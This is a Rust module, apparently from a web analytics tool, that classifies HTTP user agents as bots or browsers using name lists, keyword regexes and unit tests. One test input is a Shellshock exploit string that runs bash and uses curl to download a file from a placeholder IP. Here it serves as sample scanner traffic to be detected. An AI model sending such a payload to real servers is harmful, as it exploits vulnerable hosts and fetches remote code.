//! Which user agents are machines, by name and class.
//!
//! Only the agent's own word makes a bot: a name from our list (`data/bots.tsv`) or the public one
//! (`data/crawlers.tsv`), a word no browser says of itself, such as `crawler` or a web address, or
//! an agent that isn't built as browsers build theirs ([`super::grammar`]).
//! A browser is innocent: behaviour is never consulted here, and names that phones and apps share
//! with bots (Cubot, HTC Butterfly, ViewSonic) don't count.

use super::grammar;
use crate::model::BotClass;
use aho_corasick::AhoCorasick;
use once_cell::sync::Lazy;
use regex::Regex;
use std::ops::Range;
use std::sync::Arc;

/// A machine by its own word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Bot {
    /// `Googlebot`, `GPTBot`, `curl` …
    pub name: Arc<str>,
    pub class: BotClass,
}

/// Judges a user agent; `None` is a person's browser, as far as its own word goes.
///
/// A few microseconds: callers remember the answer (see [`super::Agents`]).
pub fn judge(user_agent: &str) -> Option<Bot> {
    if user_agent.trim().is_empty() {
        return Some(EMPTY.clone());
    }
    let model = model(user_agent);
    let is_own_word = |found: &Range<usize>| found.start < model.start || found.end > model.end;
    NAMES
        .find(user_agent, is_own_word)
        .or_else(|| says_so(user_agent, is_own_word))
        .or_else(|| no_browser(user_agent))
}

/// Subscribers a feed reader fetches for, where it tells: `Feedly/1.0 (…; 12 subscribers)`.
pub fn subscribers(user_agent: &str) -> Option<u32> {
    static COUNT: Lazy<Regex> = Lazy::new(|| {
        Regex::new(r"(?i-u)\b([0-9]{1,9}) (?:subscribers?|readers?|users?)\b").expect("a constant")
    });
    COUNT.captures(user_agent)?.get(1)?.as_str().parse().ok()
}

static EMPTY: Lazy<Bot> = Lazy::new(|| Bot { name: "(empty)".into(), class: BotClass::Empty });

/// Lines `class <tab> name <tab> word`, our own list first.
pub(super) const LISTS: [&str; 2] =
    [include_str!("data/bots.tsv"), include_str!("data/crawlers.tsv")];

static NAMES: Lazy<Names> = Lazy::new(|| Names::new(&LISTS));

/// Known names: one automaton over all of their words.
struct Names {
    words: AhoCorasick,
    /// What each word stands for, in the same order. The first in our list that fits wins, else the
    /// longest in the public one.
    bots: Vec<Named>,
}

struct Named {
    bot: Bot,
    /// Ours comes first; among the rest, the longest.
    rank: (usize, usize),
    at_start: bool,
    at_end: bool,
}

impl Names {
    /// Reads lists like [`LISTS`].
    fn new(lists: &[&str]) -> Self {
        let mut words = Vec::new();
        let mut bots = Vec::new();
        for (list, text) in lists.iter().enumerate() {
            for line in text.lines().filter(|l| !l.starts_with('#')) {
                let mut parts = line.split('\t');
                let (Some(class), Some(name), Some(word)) =
                    (parts.next(), parts.next(), parts.next())
                else {
                    continue;
                };
                let bare = word.strip_prefix('^').unwrap_or(word);
                let text = bare.strip_suffix('$').unwrap_or(bare);
                let order = if list == 0 { bots.len() } else { usize::MAX - text.len() };
                words.push(text);
                bots.push(Named {
                    bot: Bot { name: name.into(), class: BotClass::in_data(class) },
                    rank: (list, order),
                    at_start: bare.len() < word.len(),
                    at_end: text.len() < bare.len(),
                });
            }
        }
        Self { words: AhoCorasick::new(words).expect("plain words build"), bots }
    }

    fn find(&self, user_agent: &str, is_own_word: impl Fn(&Range<usize>) -> bool) -> Option<Bot> {
        self.words
            .find_overlapping_iter(user_agent)
            .filter(|found| is_own_word(&found.range()))
            .filter_map(|found| {
                let named = &self.bots[found.pattern().as_usize()];
                let fits = (!named.at_start || found.start() == 0)
                    && (!named.at_end || found.end() == user_agent.len());
                fits.then_some(named)
            })
            .min_by_key(|named| named.rank)
            .map(|named| named.bot.clone())
    }
}

/// A bot we don't know that says what it is.
fn says_so(user_agent: &str, is_own_word: impl Fn(&Range<usize>) -> bool) -> Option<Bot> {
    static WORDS: Lazy<Regex> = Lazy::new(|| {
        Regex::new(
            r"(?xi-u)
              bot | crawl | spider | scrap(?:e|ing|y) | slurp | https?:// | www\.[a-z0-9-]+\.
            | fetch(?:er)?\b | (?:link|web|url|uri|page|site)[\ _-]?preview | archiver
            | monitor(?:ing)?\b | \bcheck | checker | analy[sz]er | extractor | validator
            | indexer | transcoder | http[\ -]?client | harvest | scanner | uptime | screenshot
            | favicon | rss\ reader | feed\ ?(?:reader|parser|fetcher) | aggregator
            | \bgoogle[\ ]search[\ ]console | [a-z0-9]@[a-z0-9-]+\.[a-z]
            | \bgoogle-[a-z] | ^google[\ ]
            ",
        )
        .expect("a constant")
    });
    let found = WORDS.find_iter(user_agent).find(|found| {
        is_own_word(&found.range()) && !is_innocent(word_around(user_agent, found))
    })?;
    // An address of the web or of a person doesn't name its bot; the product beside it does.
    let is_address = ["://", "@", "www."].iter().any(|mark| found.as_str().contains(mark));
    let name = match is_address {
        true => product(user_agent),
        false => word_around(user_agent, &found),
    };
    Some(Bot {
        name: crate::model::rollup::clean(name, 40).into(),
        class: class_of(found.as_str()),
    })
}

/// A program that doesn't say what it is, but doesn't speak as browsers do.
fn no_browser(user_agent: &str) -> Option<Bot> {
    let part = grammar::violation(user_agent)?;
    let library = ["CFNetwork/", "Dalvik/"].iter().any(|library| user_agent.contains(library));
    let class = if library { BotClass::Tool } else { BotClass::OtherBot };
    let name = if part.is_empty() { UNNAMED } else { part };
    Some(Bot { name: crate::model::rollup::clean(name, 40).into(), class })
}

/// The product an agent names: its first word, or the one it is `compatible;` as.
fn product(user_agent: &str) -> &str {
    let named = user_agent.split_once("compatible;").map_or(user_agent, |(_, rest)| rest);
    let mut words = named.split(is_edge).filter(|word| !word.is_empty());
    words.next().filter(|word| !["Mozilla", "http", "https"].contains(word)).unwrap_or(UNNAMED)
}

const UNNAMED: &str = "(unnamed bot)";

fn is_edge(c: char) -> bool {
    c.is_whitespace() || "/;,()[]\"'+:".contains(c)
}

/// The product's name a word stands in: up to the next blank, slash or bracket.
fn word_around<'a>(text: &'a str, found: &regex::Match) -> &'a str {
    let start = text[..found.start()]
        .rfind(is_edge)
        .map_or(0, |at| at + text[at..].chars().next().map_or(1, char::len_utf8));
    let end = text[found.end()..].find(is_edge).map_or(text.len(), |at| found.end() + at);
    &text[start..end]
}

/// Where an Android device's model and its build stand in an agent: words of its maker, which have
/// made bots of a `M bot 60` and of all phones with the build `AP3A.240617.008`.
fn model(user_agent: &str) -> Range<usize> {
    static MODEL: Lazy<Regex> = Lazy::new(|| {
        Regex::new(
            r"(?x)^Mozilla/5\.0\ \(Linux;\ (?:U;\ )?Android\ [\d.]+;\ (?:[A-Za-z]{2}[-_][A-Za-z]{2};\ )?
            ([^;()]*)",
        )
        .expect("a constant")
    });
    let model = MODEL.captures(user_agent).and_then(|found| found.get(1));
    model.map_or(0..0, |model| model.range())
}

/// Phones and parts of browsers whose names hold a bot's word.
fn is_innocent(word: &str) -> bool {
    let word = word.to_ascii_lowercase();
    ["cubot", "idbot", "mozacfetch", "camscanner", "botech", "caboto"]
        .iter()
        .any(|innocent| word.starts_with(innocent))
}

fn class_of(word: &str) -> BotClass {
    let word = word.to_ascii_lowercase();
    match word.as_str() {
        w if w.contains("preview") => BotClass::Preview,
        w if w.contains("monitor") || w.contains("uptime") => BotClass::Monitor,
        w if w.contains("rss") || w.contains("feed") || w.contains("aggregator") => {
            BotClass::FeedReader
        }
        w if w.contains("scanner") => BotClass::Scanner,
        w if w.starts_with("http") && w.ends_with("client") => BotClass::Tool,
        w if w.contains("archiver") => BotClass::Archiver,
        _ => BotClass::OtherBot,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn named(user_agent: &str) -> Option<(String, BotClass)> {
        judge(user_agent).map(|bot| (bot.name.to_string(), bot.class))
    }

    #[test]
    fn known_bots_have_their_name_and_class() {
        use BotClass::*;
        for (agent, name, class) in [
            ("", "(empty)", Empty),
            ("  ", "(empty)", Empty),
            (
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "Googlebot",
                Search,
            ),
            (
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; \
                 +https://openai.com/gptbot)",
                "GPTBot",
                AiTraining,
            ),
            (
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; \
                 ChatGPT-User/1.0; +https://openai.com/bot",
                "ChatGPT-User",
                AiAssistant,
            ),
            (
                "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
                "AhrefsBot",
                Seo,
            ),
            (
                "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
                "UptimeRobot",
                Monitor,
            ),
            (
                "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
                "Facebook",
                Preview,
            ),
            ("WhatsApp/2.23.20.0 A", "WhatsApp", Preview),
            (
                "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; )",
                "Feedly",
                FeedReader,
            ),
            ("Mozilla/5.0 zgrab/0.x", "zgrab", Scanner),
            ("() { :;}; /bin/bash -c cd /tmp;curl -O http://192.0.2.1/x", "Shellshock", Scanner),
            ("curl/8.5.0", "curl", Tool),
            ("python-requests/2.32.3", "python-requests", Tool),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) \
                 HeadlessChrome/131.0.0.0 Safari/537.36",
                "HeadlessChrome",
                Headless,
            ),
        ] {
            assert_eq!(named(agent), Some((name.into(), class)), "{agent}");
        }
    }

    #[test]
    fn an_unknown_bot_is_called_what_it_calls_itself() {
        for (agent, name) in [
            ("AcmeBot/1.0", "AcmeBot"),
            ("Mozilla/5.0 (compatible; acme-crawler/2; like Gecko)", "acme-crawler"),
            ("Acme Reader 2 (https://acme.example/about)", "Acme"),
            ("Mozilla/5.0 (compatible; acme/2; +https://acme.example/about)", "acme"),
            ("Mozilla/5.0 (compatible; +https://acme.example/about)", "(unnamed bot)"),
            ("Mozilla/5.0 (+https://acme.example/about)", "(unnamed bot)"),
            ("acme 7 (someone@acme.example)", "acme"),
        ] {
            assert_eq!(named(agent), Some((name.into(), BotClass::OtherBot)), "{agent}");
        }
        let endless = format!("{}bot", "x".repeat(400));
        assert_eq!(named(&endless).unwrap().0, crate::model::rollup::OTHER);
    }

    #[test]
    fn people_with_suspicious_names_are_people() {
        for agent in [
            "Mozilla/5.0 (Linux; Android 8.0.0; CUBOT_P20) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/70.0.3538.110 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 4.1.1; HTC Butterfly Build/JRO03C) AppleWebKit/535.19 \
             (KHTML, like Gecko) Chrome/18.0.1025.166 Mobile Safari/535.19",
            "Mozilla/5.0 (Windows NT 10.0.18362; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
             Slack/4.4.2 Chrome/78.0.3904.130 Electron/7.2.1 Safari/537.36 Sonic Slack_SSB/4.4.2",
            "Mozilla/5.0 (Linux; Android 7.1.2; G011A; wv) AppleWebKit/537.36 (KHTML, like Gecko) \
             Version/4.0 Chrome/66.0.3359.158 Safari/537.36 Viber/11.9.5.8",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/480.0.0.36.108;FBDV/iPhone14,5]",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) Mobile/15E148 LinkedInApp",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) GSA/350.1.7 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) Mobile/15E148 Instagram 370.0.0.1 (iPhone15,2; iOS 18_3; de_DE; scale=3.00)",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) Mobile/15E148 [Pinterest/iOS]",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) Mobile/15E148 Snapchat/13.25.0.40 (like Safari/8620.2.4, panda)",
            "Mozilla/5.0 (Linux; Android 14; SM-S911N; wv) AppleWebKit/537.36 (KHTML, like Gecko) \
             Version/4.0 Chrome/130.0.0.0 Mobile Safari/537.36 NAVER(inapp; search; 1000; 12.7.3)",
            "Mozilla/5.0 (Linux; Android 13; 2201123C; wv) AppleWebKit/537.36 (KHTML, like Gecko) \
             Version/4.0 Chrome/130.0.0.0 XWEB/1300 MMWEBSDK/2024 MicroMessenger/8.0.50 WeChat/arm64",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/109.0.0.0 Safari/537.36 SE 2.X MetaSr 1.0",
            "Mozilla/5.0 (Linux; Android 10; LIO-AN00) AppleWebKit/537.36 (KHTML, like Gecko) \
             Version/4.0 Chrome/89.0.0.0 Mobile Safari/537.36 SogouMSE,SogouMobileBrowser/5.3",
        ] {
            assert_eq!(named(agent), None, "{agent}");
        }
    }

    #[test]
    fn feed_readers_tell_their_subscribers() {
        assert_eq!(subscribers("kouio.com RSS reader - 6 subscribers"), Some(6));
        assert_eq!(subscribers("Feedbin feed-id:1 - 1234 Subscribers"), Some(1234));
        assert_eq!(subscribers("NewsBlur Feed Fetcher - 1 subscriber - x"), Some(1));
        assert_eq!(subscribers("Miniflux/2.0"), None);
        assert_eq!(subscribers("x/99999999999 9999999999999 subscribers"), None);
    }
}
